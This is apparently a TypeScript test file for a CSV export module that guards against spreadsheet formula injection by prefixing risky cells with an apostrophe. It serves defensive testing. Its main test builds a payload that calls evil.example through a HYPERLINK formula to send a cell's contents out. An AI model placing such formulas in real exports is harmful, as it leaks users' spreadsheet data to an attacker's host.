import fs from 'node:fs'
import path from 'node:path'
import { text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvStream, csvText, formulaSafeText } from './csv.ts'

const dangerous = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const readBack = (csv: string) => parse(csv, { bom: true }) as string[][]

async function* inBatches<T>(rows: T[], size: number) {
  for (let i = 0; i < rows.length; i += size) yield rows.slice(i, i + size)
}

describe('the CSV writer', () => {
  it.each(dangerous)('makes text starting with %j harmless with a leading apostrophe', (c) => {
    const formula = `${c}HYPERLINK("http://evil.example/?"&A2,"Click")`
    const [[cell]] = readBack(csvText([[formula]])) as [[string]]
    expect(cell).toBe(`'${formula}`)
  })

  it('writes a value typed as a number as the number, whatever its sign', () => {
    expect(csvText([[-5, -1.5, 0, 42, 2.25, -10n, 10n]])).toBe('-5,-1.5,0,42,2.25,-10,10\n')
  })

  it('leaves text that is a plain signed decimal alone, and prefixes anything else starting with a minus', () => {
    expect(readBack(csvText([['-5', '-1.5', '12', '0.5']]))).toEqual([['-5', '-1.5', '12', '0.5']])
    expect(readBack(csvText([['-5 days', '-1.5.3', '-', '-.5', '-2+3+cmd', '--1']]))).toEqual([
      ["'-5 days", "'-1.5.3", "'-", "'-.5", "'-2+3+cmd", "'--1"],
    ])
  })

  it('writes a number that is not a number (NaN, -Infinity) as harmless text', () => {
    expect(readBack(csvText([[Number.NaN, Number.NEGATIVE_INFINITY, Number.POSITIVE_INFINITY]]))).toEqual([
      ['NaN', "'-Infinity", 'Infinity'],
    ])
  })

  it('leaves ordinary text, empty cells and text already starting with an apostrophe as they are', () => {
    expect(csvText([['Oak House', '', null, undefined, "'=1+1", ' =1+1']])).toBe("Oak House,,,,'=1+1, =1+1\n")
  })

  it('round-trips quotes, commas and line breaks, inside harmless and made-harmless cells alike', () => {
    const awkward = ['a "quoted", text\nover lines', '=x,"y"\r\nz', 'comma, then more', '"', '\n=1']
    expect(readBack(csvText([awkward]))).toEqual([
      ['a "quoted", text\nover lines', `'=x,"y"\r\nz`, 'comma, then more', '"', '\n=1'],
    ])
  })

  it('writes yes/no for a boolean, an ISO instant for a date and a byte-order mark when asked', () => {
    const csv = csvText([[true, false, new Date('2020-04-14T08:00:00Z'), new Date(Number.NaN)]], {
      bom: true,
    })
    expect(csv).toBe('\uFEFFYes,No,2020-04-14T08:00:00.000Z,\n')
  })

  it('makes a header as harmless as any other row', () => {
    expect(readBack(csvText([['@header'], ['x']]))).toEqual([["'@header"], ['x']])
  })

  // A module writing CSV with csv-stringify itself would skip the rule: there is one writer.
  it('is the only CSV writer in the product', () => {
    const src = path.resolve(import.meta.dirname, '..')
    const writers = fs
      .readdirSync(src, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.ts') && !file.endsWith('.test.ts'))
      .filter((file) => /from 'csv-stringify/.test(fs.readFileSync(path.join(src, file), 'utf8')))
    expect(writers).toEqual([path.join('domain', 'csv.ts')])
  })

  it('has one rule for every cell: formulaSafeText', () => {
    expect(formulaSafeText('=1+1')).toBe("'=1+1")
    expect(formulaSafeText('-5')).toBe('-5')
    expect(formulaSafeText('Oak')).toBe('Oak')
  })
})

describe('the streaming CSV writer', () => {
  type Row = { name: string; beds: number | null; open: boolean }
  const rows: Row[] = Array.from({ length: 2500 }, (_, i) => ({
    name: `${dangerous[i % dangerous.length]}Home ${i}, "the ${i}th"`,
    beds: i % 7 === 0 ? null : -i,
    open: i % 2 === 0,
  }))
  const cells = (r: Row) => [r.name, r.beds, r.open]

  it('writes the same file as the whole-file writer, a batch at a time, header first', async () => {
    const streamed = await text(csvStream(['Name', 'Beds', 'Open'], inBatches(rows, 100), cells))
    expect(streamed).toBe(csvText([['Name', 'Beds', 'Open'], ...rows.map(cells)]))
    const back = readBack(streamed)
    expect(back).toHaveLength(rows.length + 1)
    expect(back[2]).toEqual([`'+Home 1, "the 1th"`, '-1', 'No'])
    expect(back.slice(1).every(([name]) => name!.startsWith("'"))).toBe(true)
    expect(back[8]).toEqual([`'＋Home 7, "the 7th"`, '', 'No'])
  })

  it('ends the file with an error when reading a batch fails', async () => {
    async function* failing() {
      yield rows.slice(0, 2)
      throw new Error('database went away')
    }
    await expect(text(csvStream(['Name', 'Beds', 'Open'], failing(), cells))).rejects.toThrow(
      'database went away',
    )
  })
})
